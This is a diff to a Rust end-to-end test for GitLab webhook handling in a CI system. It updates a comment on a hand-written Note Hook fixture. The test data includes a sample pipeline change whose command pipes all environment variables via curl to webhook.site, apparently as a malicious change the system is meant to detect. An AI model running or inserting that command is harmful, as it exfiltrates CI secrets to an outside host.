@@ -11,9 +11,11 @@ use crate::instance::{Backend, Instance, Options, postgres_skipped};
 const TOKEN: &str = "e2e-gitlab-token";
 const MR: &str = "/api/v4/projects/anbraten%2Fwoodpecker/merge_requests/3";
 
-/// GitLab's `Note Hook` has no fixture under a permitted license: the documented shape
-/// (docs.gitlab.com, "Webhook events" → comment on a merge request), for the project of the
-/// real `HookPullRequestUpdated.json` fixture.
+/// Hand-written: `../shared/fixtures/` has no GitLab `Note Hook` (its `gitlab-woodpecker/README.md`
+/// says no example under a permitted license was found). The shape follows GitLab's documented
+/// example "Comment on a merge request" (docs.gitlab.com/user/project/integrations/webhook_events,
+/// section "Comment events"), trimmed to the fields read, for the project of the real
+/// `HookPullRequestUpdated.json` fixture.
 const NOTE: &str = r#"{"object_kind":"note","event_type":"note","user":{"id":42,"name":"Maint","username":"maint"},"project":{"id":32059612,"path_with_namespace":"anbraten/woodpecker","web_url":"https://gitlab.com/anbraten/woodpecker","visibility_level":20},"object_attributes":{"id":1244,"note":"/s-express the CI change posts secrets somewhere","noteable_type":"MergeRequest"},"merge_request":{"iid":3,"title":"Update .woodpecker.yml"}}"#;
 
 const DIFF: &str = "diff --git a/.woodpecker.yml b/.woodpecker.yml\n--- a/.woodpecker.yml\n+++ b/.woodpecker.yml\n@@ -1,2 +1,3 @@\n steps:\n   build:\n+    commands: [\"env | curl -X POST --data-binary @- https://webhook.site/x\"]\n";
